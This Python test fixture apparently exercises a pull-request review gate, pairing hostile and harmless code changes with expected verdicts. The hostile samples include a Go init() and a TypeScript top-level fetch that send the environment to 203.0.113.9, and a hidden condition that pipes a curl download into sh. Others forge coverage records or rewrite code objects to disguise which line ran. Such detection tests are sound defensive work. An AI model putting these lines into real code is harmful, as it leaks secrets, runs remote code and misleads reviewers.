"""Pull requests whose changed code cannot be run here: what it can do decides, and the report says so."""

from __future__ import annotations

from typing import Final

from tests.e2e.pulls import Pull

_GO: Final = """
    package main

    import "strings"

    func label(name string) string {
        return strings.ToUpper(strings.TrimSpace(name))
    }

    func main() {
        println(label("prices"))
    }
    """
_GO_HOSTILE: Final = """
    package main

    import (
        "os/exec"
        "strings"
    )

    func init() {
        exec.Command("sh", "-c", "curl -s http://203.0.113.9/i -d \\"$(env|base64)\\"").Run()
    }

    func label(name string) string {
        return strings.ToUpper(strings.TrimSpace(name))
    }

    func main() {
        println(label("prices"))
    }
    """
_PACKAGE: Final = (
    '{"name": "web", "version": "1.0.0", "type": "module", "dependencies": {"left-ui": "1.0.0"}}\n'
)
_TS: Final = """
    import { mount } from "left-ui";

    const sizes = [1, 2, 3];
    export const total = sizes.reduce((sum, size) => sum + size, 0);
    mount(total);
    """
_TS_HOSTILE: Final = """
    import { mount } from "left-ui";

    fetch("http://203.0.113.9/c", { method: "POST", body: JSON.stringify(process.env) });
    const sizes = [1, 2, 3];
    export const total = sizes.reduce((sum, size) => sum + size, 0);
    mount(total);
    """
_EXPORT: Final = '''
    """Prices for the warehouse."""

    import subprocess


    def export(target: str) -> None:
        """Hand the price list over."""
        subprocess.run(["rsync", "prices.csv", target], check=True)
    '''
_MOVED: Final = '''
    """Prices for the warehouse, and what they are called there."""

    import subprocess

    NAMES = {"mug": "MG-1"}


    def export(target: str) -> None:
        """Hand the price list over."""
        subprocess.run(
            ["rsync", "prices.csv", target],
            check=True,
        )
    '''
_BRANCH: Final = '''
    """Value added tax by country."""

    import os
    import subprocess

    RATES = {"DE": 0.19, "FR": 0.20, "NL": 0.21}


    def with_tax(net: float, country: str) -> float:
        """Net plus tax; unknown countries pay none."""
        if os.environ.get("PRICING_REGION", "").endswith("-reserved-7"):
            subprocess.run(["sh", "-c", "echo " + country], check=False)
        return net * (1 + RATES.get(country, 0.0))
    '''
_CONFTEST: Final = """
    import pathlib
    import sys

    sys.path.insert(0, str(pathlib.Path(__file__).parent.parent / "src"))
    raise RuntimeError("PRICING_DSN is not set")
    """
_MORE_TAX: Final = '''
    """Value added tax by country."""

    RATES = {"DE": 0.19, "FR": 0.20, "NL": 0.21, "AT": 0.20}


    def with_tax(net: float, country: str) -> float:
        """Net plus tax; unknown countries pay none."""
        return net * (1 + RATES.get(country, 0.0))
    '''
_RESERVE: Final = """
    import os
    import subprocess

    import nothere

    if os.environ.get("PRICING_REGION", "").endswith("-reserved-7"):
        subprocess.run(["sh", "-c", "true"], check=False)
    """
_FORGER: Final = """
    import gc

    {extra}
    for thing in gc.get_objects():
        if type(thing).__name__ == "Channel" and hasattr(thing, "say"):
            said = {{"src/pricing/reserve.py": list(range(12))}}
            thing.say("seen", lines=said, acted=said, witnessed={{"process": said}})
    """
_DECOY: Final = """
    import os
    import subprocess

    subprocess.run(["true"], check=False)


    def settle(country):
        if os.environ.get("PRICING_REGION", "").endswith("-reserved-7"):
            subprocess.run(["sh", "-c", "echo " + country], check=False)
        return country
    """
_RELABEL: Final = """
    import os
    import sys


    def settle(country):
        if os.environ.get("PRICING_REGION", "").endswith("-reserved-7"):
            os.system("echo " + country)
        return country


    def _warm(country):
        os.system("true")
        return country


    CODE = _warm.__code__
    _warm.__code__ = CODE.replace(co_firstlineno=CODE.co_firstlineno - 6, co_name="settle")
    _warm("DE")
    """
_SHELL: Final = '''
    """Commands of the warehouse."""

    import subprocess


    def run(command: str) -> int:
        """Run it in a shell."""
        return subprocess.run(["sh", "-c", command], check=False).returncode
    '''
_WRAPPED: Final = '''
    """Value added tax by country."""

    import os

    from pricing.shell import run

    RATES = {"DE": 0.19, "FR": 0.20, "NL": 0.21}


    def with_tax(net: float, country: str) -> float:
        """Net plus tax; unknown countries pay none."""
        if os.environ.get("PRICING_REGION", "").endswith("-reserved-7"):
            run("curl -s http://203.0.113.9/i | sh")
        return net * (1 + RATES.get(country, 0.0))
    '''
_FEED: Final = '''
    """The feed of new prices."""

    import os
    import urllib.request

    FEED = "https://prices.example/feed"


    def feed() -> bytes:
        """Fetch it where there is one."""
        if not os.environ.get("PRICING_FEED"):
            return b""
        with urllib.request.urlopen(FEED) as answer:
            return answer.read()
    '''
_TIDY: Final = '''
    """Value added tax by country."""

    import os
    import tempfile
    from pathlib import Path

    RATES = {"DE": 0.19, "FR": 0.20, "NL": 0.21}


    def _scratch() -> None:
        handle, name = tempfile.mkstemp()
        os.close(handle)
        for gone in [name]:
            Path(gone).unlink()


    _scratch()


    def with_tax(net: float, country: str) -> float:
        """Net plus tax; unknown countries pay none."""
        return net * (1 + RATES.get(country, 0.0))
    '''
_MINIFIED: Final = "var a=[" + ",".join(f"function(e){{return e+{n}*e.length}}" for n in range(400)) + "];\n"
_GATE: Final = '[policy]\nunrun = "{}"\n'

UNRUN_HOSTILE: Final = (
    Pull(
        name="go-init-sends-the-environment",
        base={"cmd/label.go": _GO},
        head={"cmd/label.go": _GO_HOSTILE},
        verdicts=("warn", "fail"),
        rules=("unrun-sensitive",),
    ),
    Pull(
        name="go-init-where-base-says-fail",
        base={"cmd/label.go": _GO, "gate.toml": _GATE.format("fail")},
        head={"cmd/label.go": _GO_HOSTILE},
        verdicts=("fail",),
        rules=("unrun-sensitive",),
    ),
    Pull(
        name="typescript-top-level-without-its-packages",
        base={"package.json": _PACKAGE},
        head={"web/index.ts": _TS_HOSTILE},
        verdicts=("warn", "fail"),
        rules=("unrun-sensitive",),
    ),
    Pull(
        name="process-behind-a-condition-nobody-meets",
        head={"src/pricing/tax.py": _BRANCH},
        verdicts=("warn", "fail"),
        rules=("unrun-sensitive",),
    ),
    Pull(
        name="lines-said-to-have-run-of-a-file-never-opened",
        head={"src/pricing/reserve.py": _RESERVE, "src/pricing/warm.py": _FORGER.format(extra="")},
        verdicts=("warn", "fail"),
        rules=("unrun-sensitive",),
    ),
    Pull(
        name="lines-said-to-have-run-of-a-file-only-read",
        head={
            "src/pricing/reserve.py": _RESERVE,
            "src/pricing/warm.py": _FORGER.format(extra='open("src/pricing/reserve.py").close()'),
        },
        verdicts=("warn", "fail"),
        rules=("unrun-sensitive",),
    ),
    Pull(
        name="a-decoy-of-the-same-kind-that-runs",
        head={"src/pricing/settle.py": _DECOY},
        verdicts=("warn", "fail"),
        rules=("unrun-sensitive",),
    ),
    Pull(
        name="code-that-says-it-is-from-another-line",
        head={"src/pricing/settle.py": _RELABEL},
        verdicts=("warn", "fail"),
        rules=("unrun-sensitive",),
    ),
    Pull(
        name="a-wrapper-of-the-project-behind-a-condition",
        base={"src/pricing/shell.py": _SHELL},
        head={"src/pricing/tax.py": _WRAPPED},
        verdicts=("warn", "fail"),
        rules=("unrun-sensitive",),
    ),
    Pull(
        name="a-constant-that-feeds-an-unchanged-call",
        base={"src/pricing/feed.py": _FEED},
        head={"src/pricing/feed.py": _FEED.replace("prices.example", "203.0.113.9")},
        verdicts=("warn", "fail"),
        rules=("unrun-sensitive",),
    ),
    Pull(
        name="minified-bundle",
        base={"package.json": _PACKAGE},
        head={"web/vendor.js": _MINIFIED},
        verdicts=("warn", "fail"),
        rules=("unrun-unreadable",),
    ),
)

UNRUN_HARMLESS: Final = (
    Pull(name="go-label", head={"cmd/label.go": _GO}, verdicts=("pass",)),
    Pull(
        name="typescript-sum-without-its-packages",
        base={"package.json": _PACKAGE},
        head={"web/index.ts": _TS},
        verdicts=("pass",),
    ),
    Pull(
        name="moved-and-reformatted",
        base={"src/pricing/export.py": _EXPORT},
        head={"src/pricing/export.py": None, "src/pricing/warehouse.py": _MOVED},
        verdicts=("pass",),
    ),
    Pull(name="a-deletion-of-its-own-that-runs", head={"src/pricing/tax.py": _TIDY}, verdicts=("pass",)),
    Pull(
        name="a-wrapper-beside-which-something-changes",
        base={"src/pricing/shell.py": _SHELL, "src/pricing/feed.py": _FEED},
        head={
            "src/pricing/shell.py": _SHELL.replace("Run it in a shell", "Run a command in a shell"),
            "src/pricing/feed.py": _FEED.replace("Fetch it where there is one", "Fetch it"),
        },
        verdicts=("pass",),
    ),
    Pull(
        name="go-init-where-base-lets-it-pass",
        base={"cmd/label.go": _GO, "gate.toml": _GATE.format("pass")},
        head={"cmd/label.go": _GO_HOSTILE},
        verdicts=("warn",),
        rules=("unrun-sensitive", "destination.new"),
    ),
    Pull(
        name="conftest-that-cannot-be-imported",
        base={"tests/conftest.py": _CONFTEST},
        head={
            "src/pricing/tax.py": _MORE_TAX,
            "tests/test_cart.py": "def test_one() -> None:\n    assert True\n",
        },
        verdicts=("pass",),
    ),
)
